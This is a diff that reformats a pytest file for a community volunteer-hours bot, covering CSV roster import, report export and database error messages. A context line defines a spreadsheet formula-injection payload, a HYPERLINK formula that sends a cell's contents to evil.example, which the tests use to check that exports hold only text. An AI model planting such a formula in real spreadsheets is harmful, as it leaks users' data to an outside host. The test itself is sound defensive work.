@@ -16,11 +16,11 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import create_engine, text, update
 
-from bot.runtime.cli import main
 from bot.kernel.db import Database
 from bot.kernel.migrate import upgrade
-from bot.services import Services
 from bot.kernel.settings import Settings, get_settings
+from bot.runtime.cli import main
+from bot.services import Services
 from models import Person
 from tests.world import make_world
 
@@ -32,7 +32,7 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
 
 @pytest.fixture
-def bank(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):  # noqa: ANN201
+def bank(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
     """An SQLite bank file with a community whose people and notes carry formula-like text."""
     monkeypatch.chdir(tmp_path)
     url = f"sqlite+aiosqlite:///{tmp_path / 'bank.db'}"
@@ -49,8 +49,15 @@ def bank(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):  # noqa: ANN201
                 session.execute(update(Person).where(Person.id == w.volunteer).values(display_name=EVIL))
                 session.commit()
             today = services.clock.community("Asia/Shanghai").today()
-            await services.run(services.hours.record, w.worker, w.community_id, [w.volunteer], category_id=w.categories["助餐"],
-                                        service_date=today - timedelta(days=1), minutes=60)
+            await services.run(
+                services.hours.record,
+                w.worker,
+                w.community_id,
+                [w.volunteer],
+                category_id=w.categories["助餐"],
+                service_date=today - timedelta(days=1),
+                minutes=60,
+            )
             return f"{today:%Y-%m}"
         finally:
             await services.db.dispose()
@@ -78,15 +85,17 @@ def test_reports_hold_text_never_formulas(bank: str, tmp_path: Path, capsys: pyt
     assert out[0] == f"已写入 {tmp_path / 'r.xlsx'}"
 
 
-def test_import_errors_name_the_columns_as_the_file_does(bank: str, tmp_path: Path, capsys: pytest.CaptureFixture[str],
-                                                        monkeypatch: pytest.MonkeyPatch) -> None:
+def test_import_errors_name_the_columns_as_the_file_does(
+    bank: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
     roster = tmp_path / "花名册.csv"
     roster.write_text("姓名,出生年份,地址,是否独居,电话\n王秀英,19x8,幸福里3栋,是,021-5555 1234\n", encoding="utf-8")
     assert main(["import", "elders", str(roster), "--community", "幸福社区"]) == 1
     out = capsys.readouterr().out
     assert "第 2 行 出生年份：“19x8”" in out and "birth_year" not in out
-    roster.write_text("姓名,出生年份,地址,是否独居,电话\n王\x00秀英\u202e,1948,幸福里3栋,是,021-5555 1234\n",
-                      encoding="utf-8")
+    roster.write_text(
+        "姓名,出生年份,地址,是否独居,电话\n王\x00秀英\u202e,1948,幸福里3栋,是,021-5555 1234\n", encoding="utf-8"
+    )
     assert main(["import", "elders", str(roster), "--community", "幸福社区"]) == 0  # a landline is fine
     with sqlite3.connect(tmp_path / "bank.db") as db:  # a file is input too: no NUL, no U+202E
         assert db.execute("SELECT name, phone FROM elders").fetchall() == [("王秀英", "02155551234")]
@@ -98,7 +107,9 @@ def test_import_errors_name_the_columns_as_the_file_does(bank: str, tmp_path: Pa
     assert capsys.readouterr().err.startswith(f"lovebank: 读不了文件 {tmp_path / 'missing.csv'}")
 
 
-def test_a_huge_roster_is_refused_before_it_is_read(bank: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_huge_roster_is_refused_before_it_is_read(
+    bank: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     from bot.people.roster import MAX_BYTES, MAX_ROWS
 
     huge = tmp_path / "huge.csv"
@@ -118,8 +129,9 @@ def test_a_huge_roster_is_refused_before_it_is_read(bank: str, tmp_path: Path, c
     assert "行数太多" in capsys.readouterr().out
 
 
-def test_export_stock_speaks_the_operators_language(bank: str, capsys: pytest.CaptureFixture[str],
-                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+def test_export_stock_speaks_the_operators_language(
+    bank: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
     assert main(["export", "stock", "--month", bank]) == 0
     assert capsys.readouterr().out.splitlines()[0].startswith("社区\t物品\t名称\t期初")
     assert main(["export", "stock", "--month", "9999-12"]) == 2
@@ -129,12 +141,16 @@ def test_export_stock_speaks_the_operators_language(bank: str, capsys: pytest.Ca
     assert capsys.readouterr().out.splitlines()[0].startswith("community\titem\tname\topening")
 
 
-@pytest.mark.parametrize(("url", "expected"), [
-    ("postgresql+asyncpg://postgres@127.0.0.1:1/lovebank", "连不上数据库服务器 127.0.0.1:1"),
-    ("sqlite+aiosqlite:////nonexistent-folder/bank.db", "打不开 SQLite 数据库文件 /nonexistent-folder/bank.db"),
-])
-def test_a_database_it_cannot_use_is_one_line(url: str, expected: str, monkeypatch: pytest.MonkeyPatch,
-                                              capsys: pytest.CaptureFixture[str]) -> None:
+@pytest.mark.parametrize(
+    ("url", "expected"),
+    [
+        ("postgresql+asyncpg://postgres@127.0.0.1:1/lovebank", "连不上数据库服务器 127.0.0.1:1"),
+        ("sqlite+aiosqlite:////nonexistent-folder/bank.db", "打不开 SQLite 数据库文件 /nonexistent-folder/bank.db"),
+    ],
+)
+def test_a_database_it_cannot_use_is_one_line(
+    url: str, expected: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     monkeypatch.setenv("LOVEBANK_DATABASE_URL", url)
     get_settings.cache_clear()
     try:
@@ -146,12 +162,15 @@ def test_a_database_it_cannot_use_is_one_line(url: str, expected: str, monkeypat
 
 
 @pytest.mark.skipif(not os.environ.get("LOVEBANK_TEST_DATABASE_URL"), reason="needs a PostgreSQL server")
-def test_a_missing_postgresql_database_says_how_to_create_it(monkeypatch: pytest.MonkeyPatch,
-                                                             capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_missing_postgresql_database_says_how_to_create_it(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     from sqlalchemy.engine import make_url
 
     server = make_url(os.environ["LOVEBANK_TEST_DATABASE_URL"])
-    monkeypatch.setenv("LOVEBANK_DATABASE_URL", str(server.set(database="lovebank_never_created").render_as_string(False)))
+    monkeypatch.setenv(
+        "LOVEBANK_DATABASE_URL", str(server.set(database="lovebank_never_created").render_as_string(False))
+    )
     monkeypatch.setenv("LOVEBANK_LOCALE", "en")
     get_settings.cache_clear()
     try:
@@ -162,14 +181,17 @@ def test_a_missing_postgresql_database_says_how_to_create_it(monkeypatch: pytest
     assert err.count("\n") == 1 and "does not exist" in err and "createdb" in err and "lovebank_never_created" in err
 
 
-def test_a_database_locked_past_the_busy_timeout_is_one_line(bank: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
-                                                            capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_database_locked_past_the_busy_timeout_is_one_line(
+    bank: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     # The lock is real; only the wait is cut short (the bot waits 30 s before it gives up).
     holder = sqlite3.connect(tmp_path / "bank.db")
     holder.execute("BEGIN EXCLUSIVE")
     try:
-        with pytest.raises(Exception) as locked, create_engine(
-            f"sqlite:///{tmp_path / 'bank.db'}", connect_args={"timeout": 0}).connect() as conn:
+        with (
+            pytest.raises(Exception) as locked,
+            create_engine(f"sqlite:///{tmp_path / 'bank.db'}", connect_args={"timeout": 0}).connect() as conn,
+        ):
             conn.execute(text("UPDATE people SET locale = locale"))  # a writer waits for the lock
 
         async def stuck(settings: Settings) -> Services:
@@ -210,7 +232,9 @@ async def test_a_retired_elder_has_no_next_visit(services: Services) -> None:
     assert "下次探访：—（已停止探访）" in card and "下次电话" not in card
 
 
-async def test_console_files_get_unique_names(services: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_console_files_get_unique_names(
+    services: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     from handlers.console import chat
 
     await make_world(services)
